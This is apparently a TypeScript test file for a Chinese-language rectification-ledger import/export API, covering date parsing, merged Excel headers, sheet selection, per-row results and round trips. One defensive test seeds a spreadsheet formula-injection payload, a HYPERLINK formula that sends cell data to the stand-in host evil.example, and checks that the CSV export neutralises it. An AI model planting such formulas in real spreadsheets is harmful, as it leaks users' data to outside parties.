// The ledger as agencies keep it in Excel: dates typed every way, xlsx date cells, serial numbers and formulas,
// two-row merged headers, ?sheet=, per-row results and warnings, formula injection neutralised and reversed, and an
// exported sheet edited in Excel and imported back without duplicates.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { type TestContext, appWithCampaignEachTest } from '../../helpers/app.js';
import { createItem } from '../../modules/rectification/helpers.js';

let t: TestContext;
let campaignId: string;
appWithCampaignEachTest((app, id) => {
  t = app;
  campaignId = id;
});

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
let keyNo = 0;
const url = (q = '') => `/v1/rectification-items:import?campaignId=${campaignId}${q}`;
const post = (u: string, body: Buffer | string, type: string) => t.client(t.admin).post(u, body as never, { 'content-type': type, 'idempotency-key': `k-${++keyNo}` });
const items = async () => (await t.client(t.admin).get('/v1/rectification-items?orderBy=code&pageSize=100')).json().items as Array<Record<string, unknown>>;
async function workbook(build: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

describe('dates', () => {
  test('when officials type 2027/5/31, 2027-5-31 or 2027年5月31日, then the deadline is 2027-05-31', async () => {
    const csv = ['外部编号,整改事项,牵头单位,完成时限', 'D-1,甲,法制办,2027/5/31', 'D-2,乙,法制办,2027-5-31', 'D-3,丙,法制办,2027年5月31日'].join('\n');
    const res = await post(url(), csv, 'text/csv');
    expect(res.statusCode).toBe(200);
    expect((await items()).map((i) => i.deadline)).toEqual(['2027-05-31', '2027-05-31', '2027-05-31']);
  });

  test('when a date cannot be read, then the row error names the accepted formats', async () => {
    const res = await post(url(), '外部编号,整改事项,牵头单位,完成时限\nD-1,甲,法制办,五月底\n', 'text/csv');
    expect(res.statusCode).toBe(422);
    expect(res.json().errors).toEqual([expect.objectContaining({ row: 2, pointer: '/完成时限', code: 'INVALID_DATE' })]);
    expect(res.json().errors[0].detail).toContain('2026年5月31日');
    expect(res.json().errors[0].detail).toContain('Excel');
  });

  test('when an xlsx holds a date cell, a serial number, a date as text and formulas with saved values, then all are read', async () => {
    const body = await workbook((wb) => {
      const ws = wb.addWorksheet('台账');
      ws.addRow(['外部编号', '整改事项', '牵头单位', '完成时限']);
      ws.addRow(['X-1', '日期单元格', '法制办', new Date(Date.UTC(2027, 4, 31))]).getCell(4).numFmt = 'yyyy/m/d';
      ws.addRow(['X-2', '序列号', '法制办', 46538]);
      ws.addRow(['X-3', { formula: 'CONCATENATE("公式","事项")', result: '公式事项' }, '法制办', { formula: 'DATE(2027,5,31)', result: 46538 }]);
      ws.addRow(['X-4', '文本日期', '法制办', '2027年5月31日']);
    });
    const res = await post(url(), body, XLSX);
    expect(res.statusCode).toBe(200);
    const got = await items();
    expect(got.map((i) => [i.externalId, i.title, i.deadline])).toEqual([
      ['X-1', '日期单元格', '2027-05-31'],
      ['X-2', '序列号', '2027-05-31'],
      ['X-3', '公式事项', '2027-05-31'],
      ['X-4', '文本日期', '2027-05-31'],
    ]);
  });

  test('when a formula has no saved value (the file was never opened in Excel), then that cell is a row error, not a silent blank', async () => {
    const body = await workbook((wb) =>
      wb.addWorksheet('台账').addRows([['外部编号', '整改事项', '牵头单位', '完成时限'], ['F-1', { formula: 'A2&"事项"' }, '法制办', '2027-06-30']]),
    );
    const res = await post(url(), body, XLSX);
    expect(res.statusCode).toBe(422);
    expect(res.json().errors).toEqual([expect.objectContaining({ row: 2, pointer: '/整改事项', code: 'INVALID_VALUE' })]);
    expect(res.json().errors[0].detail).toMatch(/formula without a saved value/);
  });
});

describe('xlsx layout', () => {
  test('when the header is two rows with merged group cells (单位 over 牵头单位), then the sub-headers are read and rows count from Excel', async () => {
    const body = await workbook((wb) => {
      const ws = wb.addWorksheet('台账');
      ws.addRow(['整改台账']);
      ws.mergeCells('A1:E1');
      ws.addRow(['外部编号', '整改事项', '单位', '', '完成时限']);
      ws.addRow(['', '', '牵头单位', '配合单位', '']);
      ws.mergeCells('C2:D2');
      ws.mergeCells('A2:A3');
      ws.mergeCells('B2:B3');
      ws.mergeCells('E2:E3');
      ws.addRow(['M-1', '合并表头', '法制办', '监察厅', '2027-06-30']);
      ws.addRow(['M-2', '合并表头二', '不存在的单位', '', '2027-06-30']);
    });
    const res = await post(url(), body, XLSX);
    expect(res.statusCode).toBe(422);
    expect(res.json().errors).toEqual([expect.objectContaining({ row: 5, pointer: '/牵头单位', code: 'UNKNOWN_UNIT' })]);
  });

  test('when ?sheet= names the second sheet (by name or number), then that one is read; an unknown sheet is a 422 listing the sheets', async () => {
    const body = await workbook((wb) => {
      wb.addWorksheet('说明').addRow(['本表用于报送整改台账']);
      wb.addWorksheet('台账').addRows([['外部编号', '整改事项', '牵头单位', '完成时限'], ['S-1', '第二张表', '法制办', '2027-06-30']]);
    });
    const byName = await post(url(`&sheet=${encodeURIComponent('台账')}&dryRun=true`), body, XLSX);
    expect(byName.statusCode).toBe(200);
    expect(byName.json()).toMatchObject({ created: 1, source: { format: 'xlsx', sheet: '台账' } });
    expect((await post(url('&sheet=2&dryRun=true'), body, XLSX)).json()).toMatchObject({ created: 1 });
    const missing = await post(url('&sheet=Sheet9'), body, XLSX);
    expect(missing.statusCode).toBe(422);
    expect(missing.json().errors[0]).toMatchObject({ code: 'SHEET_NOT_FOUND' });
    expect(missing.json().detail).toContain('说明, 台账');
    const first = await post(url(), body, XLSX);
    expect(first.statusCode).toBe(422);
    expect(first.json().errors[0]).toMatchObject({ code: 'UNKNOWN_COLUMN' });
  });

  test('when the body is not an xlsx workbook, then 422 XLSX_UNREADABLE', async () => {
    const res = await post(url(), Buffer.from('PK\u0003\u0004 not really a zip'), XLSX);
    expect(res.statusCode).toBe(422);
    expect(res.json().errors[0]).toMatchObject({ code: 'XLSX_UNREADABLE' });
  });
});

describe('results per row', () => {
  test('when rows have neither 编号 nor 外部编号, then the dry run warns per row; the report gives each row its id and generated code', async () => {
    const csv = '整改事项,牵头单位,完成时限\n无编号一,法制办,2027-06-30\n无编号二,财政厅,2027-06-30\n';
    const dry = await post(url('&dryRun=true'), csv, 'text/csv');
    expect(dry.statusCode).toBe(200);
    expect(dry.json().warnings).toEqual([
      expect.objectContaining({ row: 2, pointer: '/编号', code: 'NO_NATURAL_KEY' }),
      expect.objectContaining({ row: 3, pointer: '/编号', code: 'NO_NATURAL_KEY' }),
    ]);
    const res = await post(url(), csv, 'text/csv');
    const stored = await items();
    expect(res.json().results).toEqual([
      { row: 2, outcome: 'created', id: stored[0].id, code: stored[0].code },
      { row: 3, outcome: 'created', id: stored[1].id, code: stored[1].code },
    ]);
  });

  test('when ?format=xlsx is asked, then the uploaded sheet comes back with 导入结果, 记录ID and 记录编号; importing that file again changes nothing', async () => {
    const upload = await workbook((wb) => wb.addWorksheet('台账').addRows([['外部编号', '整改事项', '牵头单位', '完成时限'], ['R-1', '回写', '法制办', '2027-06-30']]));
    const res = await post(url('&format=xlsx'), upload, XLSX);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    const [item] = await items();
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(['外部编号', '整改事项', '牵头单位', '完成时限', '导入结果', '记录ID', '记录编号']);
    expect((ws.getRow(2).values as unknown[]).slice(5)).toEqual(['新建', item.id, item.code]);
    const again = await post(url(), res.rawPayload, XLSX);
    expect(again.json()).toMatchObject({ created: 0, unchanged: 1 });
  });
});

describe('formula injection (OWASP) and the round trip', () => {
  test('when titles and leaders start with = @ + -, then the CSV export neutralises them and importing that CSV restores them exactly', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
    await createItem(t, campaignId, { title: evil, responsibleLeader: '@SUM(1+1)' });
    await createItem(t, campaignId, { title: '-减少审批', responsibleLeader: '+张三' });
    const before = await items();
    const res = await t.client(t.admin).get('/v1/rectification-items:export?format=csv&orderBy=code');
    const rows = parse(res.body, { bom: true }) as string[][];
    // Columns 序号, 编号, 外部编号, then 整改事项 … 责任领导.
    expect(rows[1].slice(3, 8)).toEqual([`'${evil}`, '3.1', '自治区法制办', '', "'@SUM(1+1)"]);
    expect(rows[2][3]).toBe("'-减少审批");
    expect(rows[2][7]).toBe("'+张三");
    for (const r of rows.slice(1)) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    const back = await post(url(), res.body, 'text/csv');
    expect(back.json()).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
    expect(await items()).toEqual(before);
  });
});

describe('an exported sheet edited in Excel and imported back', () => {
  test('when the xlsx export is edited (a title changed, a row added) and imported, then one update, one create and no duplicates', async () => {
    await createItem(t, campaignId, { title: '减少行政审批事项', deadline: '2027-06-30' });
    await createItem(t, campaignId, { title: '清理收费', deadline: '2027-05-31', leadUnitId: t.unit['gx-czt'] });
    const exported = await t.client(t.admin).get('/v1/rectification-items:export?format=xlsx&orderBy=code');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    ws.getCell('D2').value = '大幅减少行政审批事项'; // 整改事项 (C is 外部编号)
    ws.addRow([null, null, null, '新增事项', '5.2', '自治区法制办', '', '', new Date(Date.UTC(2027, 6, 31))]);
    const edited = Buffer.from(await wb.xlsx.writeBuffer());
    const first = await post(url(), edited, XLSX);
    expect(first.statusCode).toBe(200);
    expect(first.json()).toMatchObject({ created: 1, updated: 1, unchanged: 1, source: { format: 'xlsx', sheet: '整改台账' } });
    // The same file again: nothing new; the new row has no code in the file, so it is created again unless its code is written back.
    const again = await post(url('&dryRun=true'), edited, XLSX);
    expect(again.json()).toMatchObject({ created: 1, updated: 0, unchanged: 2 });
    expect(again.json().warnings).toEqual([expect.objectContaining({ row: 4, code: 'NO_NATURAL_KEY' })]);
    expect((await items()).map((i) => i.title)).toEqual(['大幅减少行政审批事项', '清理收费', '新增事项']);
  });
});
